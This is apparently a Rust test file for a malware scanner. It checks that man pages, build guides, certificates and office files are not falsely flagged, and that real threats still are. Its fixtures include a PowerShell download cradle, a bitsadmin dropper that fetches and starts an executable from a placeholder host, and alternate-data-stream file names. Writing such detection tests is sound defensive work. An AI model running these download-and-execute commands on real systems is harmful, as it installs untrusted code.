//! Ordinary files that the default policy once blocked or flagged, one
//! real-shaped fixture per cause that `bench/false_alarms.sh` found (Debian
//! documentation, man pages, the Python standard library, PyPI and npm
//! packages), each beside the true detection it must not weaken.

use crate::util::*;
use xferscan::{Action, TypeGroup, Verdict};

fn type_of(name: &str, data: Vec<u8>) -> String {
    scan(name, data).true_type().unwrap().name().to_string()
}

/// The type of the deepest object (the page inside a `.gz`).
fn inner_type(r: &xferscan::Report) -> String {
    r.objects
        .iter()
        .max_by_key(|o| o.depth)
        .and_then(|o| o.types.first())
        .map(|t| t.ty.name().to_string())
        .unwrap()
}

// --- Prose is not a batch file ----------------------------------------------

/// A man page in troff whose sentences begin with "Set", "Start", "Call" (a
/// translated `chage.1`, `vim.1` with its `:help` lines), gzipped as Debian
/// ships it.
const TROFF_PAGE: &str = r#".\" Manual page for a tool, as Debian ships it
.TH CHAGE 1 "2023" "shadow-utils" "User Commands"
.SH NAME
chage \- change user password expiry information
.SH DESCRIPTION
Set the number of days since January 1st, 1970 when the password was last changed.
Start the editor with
:help
to read the manual.
Call the command as root to change other accounts.
If exist any doubt, ask the administrator.
Rem: the date may also be expressed in the format YYYY-MM-DD.
goto the next section for the options.
.SH OPTIONS
.TP
\fB\-d\fR, \fB\-\-lastday\fR \fILAST_DAY\fR
Set the last password change date.
"#;

#[test]
fn man_pages_are_text_not_batch() {
    let r = scan("chage.1.gz", gzip(TROFF_PAGE.as_bytes()));
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    assert_eq!(inner_type(&r), "text");
    // mdoc, as node.1 is written.
    let mdoc = ".\\\"\n.\\\" This manpage is written in mdoc(7).\n.Dd 2018\n.Dt NODE 1\n.Sh NAME\nSet up the environment.\nStart node with\nCall the API.\nset NODE_OPTIONS=--max-old-space-size=4096\nif exist node_modules goto run\n";
    assert_eq!(type_of("node.1", mdoc.as_bytes().to_vec()), "text");
}

#[test]
fn c_source_and_gdb_scripts_are_not_batch() {
    let c = "/* cffi: show Python errors in a Windows GUI */\n#include <windows.h>\nstatic int f(void)\n{\n    if (m == NULL)\n        goto error;\n    if (result == NULL)\n        goto error;\n    set_mode(1);\n    call_back();\n    return 0;\n error:\n    return -1;\n}\n";
    assert_eq!(type_of("_cffi_errors.h", c.as_bytes().to_vec()), "text");
    let gdbinit = "# Print HeapObjects.\ndefine job\ncall (void) _v8_internal_Print_Object((void*)($arg0))\nend\ndocument job\nPrint a v8 JavaScript object\nend\nset disassembly-flavor intel\nset confirm off\n";
    let r = scan("gdbinit", gdbinit.as_bytes().to_vec());
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
}

#[test]
fn documentation_quoting_windows_commands_is_text() {
    // awscli's examples: reStructuredText with literal blocks.
    let rst = "**Example 2: To download a component's recipe (Windows CMD)**\n\nThe following ``get-component`` example uses the ``certutil`` utility. ::\n\n    aws greengrassv2 get-component ^\n        --recipe-output-format YAML ^\n        --output text > recipe.yaml.b64\n\n    certutil -decode recipe.yaml.b64 recipe.yaml\n    set AWS_PROFILE=dev\n    if exist recipe.yaml goto done\n    exit /b 0\n\nFor more information, see `Manage components`.\n";
    let r = scan("get-component.rst", rst.as_bytes().to_vec());
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    assert_eq!(r.true_type().unwrap().name(), "text");
}

/// nodejs's BUILDING.md shows a real download cradle in a fenced block.
const BUILDING_MD: &str = "#### Windows\n\nAlternatively, you can use PowerShell. Run those commands from\nan elevated (Administrator) PowerShell terminal:\n\n```powershell\nSet-ExecutionPolicy Unrestricted -Force\niex ((New-Object System.Net.WebClient).DownloadString('https://boxstarter.example/bootstrapper.ps1'))\nget-boxstarter -Force\n$env:Path = $env:Path + ';C:\\tools'\n```\n\nThe entire installation will take up approximately 10 GB of disk space.\n";

#[test]
fn a_build_guide_quoting_a_powershell_cradle_is_not_a_script() {
    let r = scan("BUILDING.md", BUILDING_MD.as_bytes().to_vec());
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    assert!(!r.matched("PowerShell_Download_Cradle"));
    // The same lines as a script are still a cradle, whatever the name.
    let script: String = BUILDING_MD
        .lines()
        .filter(|l| l.starts_with("iex") || l.starts_with('$') || l.starts_with("Set-"))
        .map(|l| format!("{l}\n"))
        .collect();
    for name in ["install.ps1", "notes.txt"] {
        let r = scan(name, script.clone().into_bytes());
        assert!(r.matched("PowerShell_Download_Cradle"), "{name}");
        assert_eq!(r.verdict, Verdict::Malicious, "{name}");
    }
    assert_eq!(type_of("notes.txt", script.into_bytes()), "powershell");
}

#[test]
fn libreoffice_basic_in_xml_is_not_vbscript() {
    let xba = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE script:module PUBLIC \"-//OpenOffice.org//DTD OfficeDocument 1.0//EN\" \"module.dtd\">\n<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Application\" script:language=\"StarBasic\">\nOption Explicit\nDim sName As String\nSet oDoc = ThisComponent\nSub Main\n  On Error Resume Next\n  If IsNull(oDoc) Then MsgBox &quot;none&quot;\n  End If\nEnd Sub\nFunction Twice(x)\n  Twice = x * 2\nEnd Function\n</script:module>\n";
    let r = scan("Application.xba", xba.as_bytes().to_vec());
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    assert_eq!(r.true_type().unwrap().name(), "xml");
}

// --- Batch files that are batch files ----------------------------------------

#[test]
fn batch_files_are_still_batch_files_by_their_syntax() {
    // proptest's run-tests.bat: no `@echo off`, and named as text.
    let bat = "cd single-crate\r\nrd /s /q proptest-regressions\r\ncargo test >cargo.txt\r\ncargo clean >nul\r\nif not exist proptest-regressions/submodule/code.txt goto fail\r\n\r\ncd ..\\workspace\r\ncargo test --all >cargo.txt\r\nif not exist member/code.txt goto fail\r\ncd ..\r\n\r\necho PASS\r\nexit /b\r\n\r\n:fail\r\necho Persistence file not in expected location.\r\ndir /s\r\nexit /b 1\r\n";
    let r = scan("notes.txt", bat.as_bytes().to_vec());
    assert_eq!(r.true_type().unwrap().name(), "batch");
    assert_eq!(r.verdict, Verdict::Malicious);
    // IDLE's launcher.
    let idle = "@echo off\r\nrem Start IDLE using the appropriate Python interpreter\r\nset CURRDIR=%~dp0\r\nstart \"IDLE\" \"%CURRDIR%..\\..\\pythonw.exe\" \"%CURRDIR%idle.pyw\" %1 %2\r\n";
    assert_eq!(type_of("idle.txt", idle.as_bytes().to_vec()), "batch");
    // Without `@echo off`, a short dropper.
    let dropper = "set U=http://example.invalid/a.exe\r\nbitsadmin /transfer j %U% %TEMP%\\a.exe >nul\r\nstart \"\" %TEMP%\\a.exe\r\n";
    assert_eq!(type_of("readme", dropper.as_bytes().to_vec()), "batch");
}

// --- Scripts that take a terminal, certificates -----------------------------

#[test]
fn scripts_that_take_a_terminal_are_allowed() {
    for (name, body, ty) in [
        (
            "fetch_macholib",
            &b"#!/bin/sh\nsvn export --force http://svn.example/macholib/trunk/ .\n"[..],
            "shell",
        ),
        (
            "hg-to-git.py",
            b"#!/usr/bin/env python3\nimport sys\nprint(sys.argv)\n",
            "python",
        ),
        (
            "bbconv.pl",
            b"#!/usr/bin/perl\nuse strict;\nprint \"hello\\n\";\n",
            "script",
        ),
        (
            "__init__.py",
            b"from .core import main\n__all__ = ['main']\n",
            "python",
        ),
    ] {
        let r = scan(name, body.to_vec());
        assert_eq!(r.verdict, Verdict::Clean, "{name}: {:?}", keys(&r));
        let t = r.true_type().unwrap();
        assert_eq!(
            (t.name(), t.group()),
            (ty, TypeGroup::OtherScript),
            "{name}"
        );
    }
    // An operator who wants them flagged says so.
    let p = xferscan::Policy::from_toml("[types]\nother_script = \"flag\"\n", "p.toml").unwrap();
    let e = xferscan::Engine::builder().policy(p).build().unwrap();
    let r = e.scan_bytes("a.py", b"print(1)\n".to_vec());
    assert_eq!(r.verdict, Verdict::Suspicious);
    assert!(has_key(&r, "type.script.other"));
    // `script`, the family, still names both kinds.
    let p = xferscan::Policy::from_toml("[types]\nscript = \"block\"\n", "p.toml").unwrap();
    let e = xferscan::Engine::builder().policy(p).build().unwrap();
    assert_eq!(
        e.scan_bytes("a.py", b"print(1)\n".to_vec()).verdict,
        Verdict::Malicious
    );
}

#[test]
fn certificates_are_allowed() {
    let pem = b"-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQk9HVVNDRVJUSUZJQ0FURUZPUlRFU1RTMAoGCCqGSM49\nBAMCMBYxFDASBgNVBAMMC2V4YW1wbGUuY29tMB4XDTI0MDEwMTAwMDAwMFoXDTM0\n-----END CERTIFICATE-----\n";
    for name in ["ca.crt", "rsakey.pem", "Local_Root_CA.crt"] {
        let r = scan(name, pem.to_vec());
        assert_eq!(r.verdict, Verdict::Clean, "{name}: {:?}", keys(&r));
        assert_eq!(r.true_type().unwrap().name(), "pem");
    }
}

// --- Names ---------------------------------------------------------------------

#[test]
fn perl_module_man_pages_are_not_alternate_data_streams() {
    for name in [
        "Algorithm::Diff.3pm.gz",
        "B::Deparse.3perl.gz",
        "App::Prove::State.3perl.gz",
    ] {
        let r = scan(name, gzip(TROFF_PAGE.as_bytes()));
        assert_eq!(r.verdict, Verdict::Clean, "{name}: {:?}", keys(&r));
    }
    // Real streams, in an archive, are still blocked.
    for name in ["report.txt:hidden.exe", "notes:payload", "shell.php::$DATA"] {
        let r = scan("a.zip", zip_of(&[(name, &b"x"[..])], Method::Stored));
        assert!(has_key(&r, "name.unsafe_path"), "{name}: {:?}", keys(&r));
        assert_eq!(r.verdict, Verdict::Malicious, "{name}");
    }
}

#[test]
fn names_on_gmails_list_are_blocked_also_inside_archives() {
    let r = scan(
        "site.zip",
        zip_of(
            &[
                ("index.html", &b"<html><body>hi</body></html>"[..]),
                ("static/app.js", b"console.log('hi');\n"),
            ],
            Method::Deflated,
        ),
    );
    assert_eq!(r.verdict, Verdict::Malicious);
    let f = r
        .findings_with_key("name.blocked_extension")
        .next()
        .unwrap();
    assert_eq!(f.path.name(), "static/app.js");
    // Renaming does not help either way: a picture named `.scr` is blocked
    // by name, an executable named `.png` by type.
    assert_eq!(scan("photo.scr", tiny_png()).verdict, Verdict::Malicious);
    assert_eq!(
        scan("photo.png", tiny_pe(false)).verdict,
        Verdict::Malicious
    );
    // The double extension is still its own finding.
    let r = scan("invoice.pdf.exe", tiny_pe(false));
    assert!(has_key(&r, "name.double_extension"), "{:?}", keys(&r));
}

// --- Links in archives -----------------------------------------------------------

#[test]
fn a_link_inside_a_tar_is_recorded_not_flagged() {
    let mut t = TarWriter::new();
    t.file("jtreport/lib/libfoo.so.1", &b"not really a library"[..]);
    t.link("jtreport/lib/libfoo.so", "libfoo.so.1", true);
    t.link("jtreport/html/index.html", "../text/summary.txt", true);
    t.link("jtreport/copy", "jtreport/lib/libfoo.so.1", false);
    let r = scan("jtreport.tar", t.finish());
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    let links: Vec<_> = r.findings_with_key("container.link").collect();
    assert_eq!(links.len(), 3);
    assert!(links.iter().all(|f| f.action == Action::Allow));
    assert!(!has_key(&r, "container.link_escapes"));
}

// --- Carving -------------------------------------------------------------------------

/// A `.pyc` of zipimport: marshalled constants that quote `PK\3\4` and
/// `PK\5\6` with no archive behind them.
fn pyc_quoting_zip_signatures() -> Vec<u8> {
    let mut v = b"\xa7\x0d\x0d\x0a\x00\x00\x00\x00\x12\x34\x56\x78\x9a\x00\x00\x00".to_vec();
    v.extend(b"\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x06\x00\x00\x00");
    v.extend(b"\xf3\x8a\x01\x00\x00\x97\x00d\x00Z\x00d\x01d\x02l\x01Z\x02");
    v.extend(b"\xda\x04PK\x03\x04\xe9\x1e\x00\x00\x00\xda\x04PK\x05\x06\xe9\x16\x00\x00\x00");
    v.extend(b"\xda\x0c_zip_searcherc\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x05\x00");
    v.extend(std::iter::repeat_n(b'\x00', 64));
    v.extend(b"z\x0fzipimport.py\xda\x08<module>r\x1e\x00\x00\x00");
    v
}

#[test]
fn bytes_quoting_a_zip_signature_are_not_a_zip() {
    let r = scan("zipimport.cpython-311.pyc", pyc_quoting_zip_signatures());
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    assert!(!has_key(&r, "type.polyglot"));
    assert_eq!(r.objects.len(), 1);
    // A real zip glued behind the same bytes is still found and scanned.
    let mut data = pyc_quoting_zip_signatures();
    data.extend(zip_of(&[("e.txt", &eicar())], Method::Deflated));
    let r = scan("x.pyc", data);
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert!(has_key(&r, "type.polyglot"));
}

// --- Names that disagree with the bytes in ways that do not matter ----------

#[test]
fn templates_certificate_bundles_and_legacy_text_are_not_mismatches() {
    // A LibreOffice template: an ODF package whose mimetype ends in -template.
    let ott = zip_of(
        &[
            (
                "mimetype",
                &b"application/vnd.oasis.opendocument.text-template"[..],
            ),
            ("content.xml", b"<office:document-content/>"),
            ("META-INF/manifest.xml", b"<manifest:manifest/>"),
        ],
        Method::Stored,
    );
    let r = scan("Modern_business_letter_sans_serif.ott", ott);
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    assert_eq!(r.true_type().unwrap().name(), "odt");
    // certifi's bundle starts with comments, not a PEM header: text.
    let bundle = b"\n# Issuer: CN=GlobalSign Root CA O=GlobalSign nv-sa\n# Label: \"GlobalSign Root CA\"\n-----BEGIN CERTIFICATE-----\nMIIDdTCCAl2gAwIBAgILBAAAAAABFUtaw5QwDQYJKoZIhvcNAQEFBQAwVzELMAkG\n-----END CERTIFICATE-----\n";
    assert_eq!(scan("cacert.pem", bundle.to_vec()).verdict, Verdict::Clean);
    // Big5 text (not UTF-8) named .txt; an empty test fixture named .pdf.gz.
    let big5 = vec![
        0xa6, 0x70, 0xa6, 0xf3, 0xa6, 0x62, 0x20, 0xb5, 0x7b, 0xa6, 0xa1, 0xa4, 0xa4, 0x0a, 0xa8,
        0xcf, 0xa5, 0xce, 0x00, 0x01, 0x02,
    ];
    assert_eq!(scan("big5.txt", big5).verdict, Verdict::Clean);
    assert_eq!(scan(".pdf.GZ", Vec::new()).verdict, Verdict::Clean);
    // gettext templates and PPD files are text whatever PowerPoint and
    // PostScript call those extensions.
    let pot = b"msgid \"\"\nmsgstr \"\"\n\"Content-Type: text/plain; charset=UTF-8\\n\"\n";
    assert_eq!(
        scan("ScriptForge.pot", pot.to_vec()).verdict,
        Verdict::Clean
    );
    // A real lie is still a finding: a zip named as a picture.
    let r = scan("photo.jpg", zip_of(&[("a.txt", &b"a"[..])], Method::Stored));
    assert!(has_key(&r, "name.extension_mismatch"), "{:?}", keys(&r));
}

#[test]
fn an_asp_page_is_not_vbscript() {
    let asp = "/*\n * This file is part of the LibreOffice project.\n */\n\n<%\n\npublic const cnRefreshTime  = 5    ' refresh time in seconds\nDim oFS\nSet oFS = Server.CreateObject(\"Scripting.FileSystemObject\")\nFunction F(x)\n  F = x\nEnd Function\nSub S()\nEnd Sub\nIf 1 Then\nEnd If\n%>\n";
    let r = scan("common.inc", asp.as_bytes().to_vec());
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
    // The same code without the ASP delimiters is VBScript.
    let vbs = asp.replace("<%", "").replace("%>", "");
    assert_eq!(type_of("common.inc", vbs.into_bytes()), "vbscript");
}
